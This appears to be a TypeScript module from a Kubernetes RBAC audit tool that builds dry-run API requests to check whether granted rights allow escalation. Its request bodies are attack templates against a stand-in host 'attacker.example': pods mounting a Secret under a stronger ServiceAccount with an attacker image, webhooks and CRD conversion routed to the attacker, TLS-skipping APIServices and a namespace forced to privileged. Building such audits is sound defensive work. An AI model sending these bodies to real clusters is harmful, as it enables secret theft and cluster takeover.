import type { ApiRequest } from "../../../../stacks/kubernetes/api.js";
import type { KubeObject } from "../../../../cli/verify/cluster/objects.js";

/** A right, and where its requests go. */
export interface Right {
  group: string;
  version: string;
  resource: string;
  verb: string;
  isNamespaced: boolean;
}

export const namespace = "trial";
/** The value of a Secret that nobody may see. */
export const needle = "value-of-the-needle";
/** Found in an object that does what its maker wants. */
const attacker = "attacker.example";

export const titleOf = ({ group, resource }: Pick<Right, "group" | "resource">): string =>
  group === "" ? resource : `${resource}.${group}`;

/** A pod that shows a Secret to a program of its maker, and runs as another's ServiceAccount. */
const podSpec = {
  containers: [{ name: "a", image: `${attacker}/program` }],
  serviceAccountName: "strong",
  volumes: [{ name: "secret", secret: { secretName: "needle" } }],
};
const template = { metadata: { labels: { app: "a" } }, spec: podSpec };
const selector = { matchLabels: { app: "a" } };
const webhook = {
  name: `a.${attacker}`,
  clientConfig: { url: `https://${attacker}` },
  sideEffects: "None",
  admissionReviewVersions: ["v1"],
};
const jobTemplate = { spec: { ...template, spec: { ...podSpec, restartPolicy: "Never" } } };
const definition = {
  group: "tried.example.com",
  names: { kind: "A", plural: "as" },
  scope: "Cluster",
  versions: [{ name: "v1", served: true, storage: true, schema: { openAPIV3Schema: { type: "object" } } }],
  conversion: {
    strategy: "Webhook",
    webhook: { clientConfig: { url: `https://${attacker}` }, conversionReviewVersions: ["v1"] },
  },
};
const matchConstraints = {
  resourceRules: [
    { apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["configmaps"] },
  ],
};
const networkPolicy = {
  podSelector: {},
  ingress: [{ from: [{ namespaceSelector: { matchLabels: { owner: attacker } } }] }],
};
/** A name that leads to the maker's address. */
const service = { type: "LoadBalancer", selector: { app: attacker }, ports: [{ port: 80 }] };
const served = { loadBalancer: { ingress: [{ hostname: attacker }] } };
const subsets = [{ addresses: [{ ip: "192.0.2.66", hostname: "attacker" }], ports: [{ port: 80 }] }];
const slice = {
  addressType: "IPv4",
  endpoints: [{ addresses: ["192.0.2.66"], hostname: "attacker" }],
};
const ingress = { rules: [{ host: attacker }] };
const mutation = {
  patchType: "ApplyConfiguration",
  applyConfiguration: { expression: `Object{metadata: Object.metadata{labels: {"a": "${attacker}"}}}` },
};

/** What somebody sends who wants more than his right; of the others nothing more than a name is sent. */
const bodies: Record<string, object> = {
  pods: { spec: podSpec },
  replicationcontrollers: { spec: { selector: { app: "a" }, template } },
  "deployments.apps": { spec: { selector, template } },
  "daemonsets.apps": { spec: { selector, template } },
  "replicasets.apps": { spec: { selector, template } },
  "statefulsets.apps": { spec: { selector, template, serviceName: "a" } },
  "jobs.batch": { spec: { template: jobTemplate.spec } },
  "cronjobs.batch": {
    spec: { schedule: "* * * * *", jobTemplate: { spec: { template: jobTemplate.spec } } },
  },
  persistentvolumes: {
    spec: {
      capacity: { storage: "1Gi" },
      accessModes: ["ReadWriteOnce"],
      hostPath: { path: `/${attacker}` },
    },
  },
  services: { spec: service },
  endpoints: { subsets },
  "endpointslices.discovery.k8s.io": slice,
  "networkpolicies.networking.k8s.io": { spec: networkPolicy },
  "ingresses.networking.k8s.io": { spec: ingress },
  "serviceaccounts/token": { spec: { expirationSeconds: 600 } },
  "validatingwebhookconfigurations.admissionregistration.k8s.io": { webhooks: [webhook] },
  "mutatingwebhookconfigurations.admissionregistration.k8s.io": { webhooks: [webhook] },
  "mutatingadmissionpolicies.admissionregistration.k8s.io": {
    spec: {
      reinvocationPolicy: "Never",
      matchConstraints,
      mutations: [mutation],
    },
  },
  "mutatingadmissionpolicybindings.admissionregistration.k8s.io": { spec: { policyName: attacker } },
  "validatingadmissionpolicies.admissionregistration.k8s.io": {
    spec: { matchConstraints, validations: [{ expression: "true" }] },
  },
  "validatingadmissionpolicybindings.admissionregistration.k8s.io": {
    spec: { policyName: attacker, validationActions: ["Audit"] },
  },
  "customresourcedefinitions.apiextensions.k8s.io": {
    metadata: { name: "as.tried.example.com" },
    spec: definition,
  },
  "apiservices.apiregistration.k8s.io": {
    metadata: { name: "v1.api.tried.example.com" },
    spec: {
      ...{ group: "api.tried.example.com", version: "v1", groupPriorityMinimum: 1, versionPriority: 1 },
      service: { name: attacker.split(".")[0], namespace, port: 443 },
      insecureSkipTLSVerify: true,
    },
  },
  "pods/ephemeralcontainers": {
    spec: { ephemeralContainers: [{ name: "b", image: `${attacker}/program` }] },
  },
};

/** A change of an object that is there, as a merge patch. */
const changes: Record<string, object> = {
  ...Object.fromEntries(
    [
      "replicationcontrollers",
      ...["deployments", "daemonsets", "replicasets", "statefulsets"].map((it) => `${it}.apps`),
    ].map((title) => [title, { spec: { template: { spec: { containers: podSpec.containers } } } }]),
  ),
  pods: { spec: { containers: podSpec.containers } },
  "pods/ephemeralcontainers": bodies["pods/ephemeralcontainers"]!,
  "jobs.batch": { spec: { template: { spec: { containers: podSpec.containers } } } },
  "cronjobs.batch": {
    spec: { jobTemplate: { spec: { template: { spec: { containers: podSpec.containers } } } } },
  },
  services: { spec: { selector: service.selector } },
  "services/status": { status: served },
  endpoints: { subsets },
  "endpointslices.discovery.k8s.io": { endpoints: slice.endpoints },
  "networkpolicies.networking.k8s.io": { spec: networkPolicy },
  "ingresses.networking.k8s.io": { spec: ingress },
  namespaces: { metadata: { labels: { "pod-security.kubernetes.io/enforce": "privileged", a: attacker } } },
  "validatingwebhookconfigurations.admissionregistration.k8s.io": { webhooks: [webhook] },
  "mutatingwebhookconfigurations.admissionregistration.k8s.io": { webhooks: [webhook] },
  "mutatingadmissionpolicies.admissionregistration.k8s.io": { spec: { mutations: [mutation] } },
  "mutatingadmissionpolicybindings.admissionregistration.k8s.io": { spec: { policyName: attacker } },
  "customresourcedefinitions.apiextensions.k8s.io": { spec: { conversion: definition.conversion } },
  "apiservices.apiregistration.k8s.io": { spec: { service: { name: "attacker" } } },
};

/** Harmless objects without which the rights to change one could not be tried. */
export const objects: { path: string; body: object }[] = [
  ...Object.entries(bodies).flatMap(([title, body]) => {
    const [resource, ...group] = title.split(".") as [string, ...string[]];
    if (resource.includes("/") || ["pods", "persistentvolumes"].includes(resource)) return [];
    const api = group.length === 0 ? "/api/v1" : `/apis/${group.join(".")}/v1`;
    const isNamespaced =
      group.length === 0 || ["apps", "batch", "discovery", "networking"].includes(group[0]!);
    const harmless = JSON.parse(
      JSON.stringify(body).replaceAll("attacker", "friend").replaceAll("tried", "there"),
    ) as object;
    return [
      {
        path: `${api}${isNamespaced ? `/namespaces/${namespace}` : ""}/${resource}`,
        body: { metadata: { name: "trial" }, ...harmless },
      },
    ];
  }),
];

/** Path of the objects of a right's kind. */
export const collectionOf = ({ group, version, resource, isNamespaced }: Right): string =>
  `/${group === "" ? "api" : `apis/${group}`}/${version}` +
  `${isNamespaced ? `/namespaces/${namespace}` : ""}/${resource.split("/")[0]}`;

const methods: Record<string, ApiRequest["method"]> = {
  create: "POST",
  update: "PUT",
  patch: "PATCH",
  delete: "DELETE",
  deletecollection: "DELETE",
};

/** The request of a right; nothing is kept of it. `found` is an object of the kind, where there is one. */
export function requestOf(right: Right, found: KubeObject | undefined): ApiRequest {
  const { resource, verb } = right;
  const title = titleOf(right);
  const subresource = resource.split("/")[1];
  const isOfAll = ["list", "watch", "deletecollection"].includes(verb) || (verb === "create" && !subresource);
  const name = found?.metadata.name ?? "trial";
  const path = `${collectionOf(right)}${isOfAll ? "" : `/${name}`}${subresource ? `/${subresource}` : ""}`;
  const query = {
    ...(verb === "watch" ? { watch: "true", timeoutSeconds: "1" } : {}),
    ...(verb in methods && !connects(right) ? { dryRun: "All" } : {}),
    // With it the answer is the object that ends.
    ...(verb === "delete" && !connects(right) ? { propagationPolicy: "Foreground" } : {}),
    ...(resource === "pods/portforward" ? { ports: "80" } : {}),
    ...(["pods/exec", "pods/attach"].includes(resource) ? { command: "id", stdout: "true" } : {}),
  };
  // A user who may only update a Secret does not know it.
  const known = title === "secrets" ? { metadata: { name }, data: {} } : found;
  const change = changes[title] ?? { metadata: { labels: { a: "b" } } };
  return {
    method: methods[verb] ?? "GET",
    path: `${path}?${new URLSearchParams(query).toString()}`,
    patient: false,
    ...(/\/(exec|attach|portforward)$/.test(resource)
      ? { headers: { Connection: "Upgrade", Upgrade: "SPDY/3.1" } }
      : {}),
    ...(verb === "create" && !connects(right)
      ? { body: { metadata: { name: subresource ? name : "trial-2" }, ...bodies[title] } }
      : {}),
    ...(verb === "update" ? { body: merged(known ?? {}, change) } : {}),
    ...(verb === "patch"
      ? { body: change, headers: { "Content-Type": "application/merge-patch+json" } }
      : {}),
  };
}

/** Subresources by which the API server connects its caller with somebody else. */
const connects = ({ resource }: Right): boolean => /\/(exec|attach|portforward|proxy|log)$/.test(resource);

function merged(object: unknown, change: unknown): unknown {
  if (typeof change !== "object" || change === null || Array.isArray(change)) return change;
  const base = (object ?? {}) as Record<string, unknown>;
  const changed = Object.entries(change).map(([key, value]) => [key, merged(base[key], value)]);
  return { ...base, ...(Object.fromEntries(changed) as object) };
}

/** What somebody has by the answer that he should not; undefined if nothing. */
export function gained(right: Right, status: number, body: string): string | undefined {
  const { group, verb } = right;
  if (body.includes(needle) || body.includes(btoa(needle))) return "a Secret's value";
  if (/"token": ?"ey/.test(body)) return "a token";
  // It went to the kubelet, or to the pod, for its caller; here nobody listens there.
  if (connects(right) && /dial tcp|address not allowed/.test(body))
    return right.resource.startsWith("nodes") ? "a node" : "a pod";
  if (status >= 300 || !(verb in methods)) return undefined;
  // The status only reports.
  const isReport = right.resource.endsWith("/status");
  if (group === "admissionregistration.k8s.io" && !isReport) return "an admission change";
  return body.includes("attacker") ? "another's rights, or requests" : undefined;
}
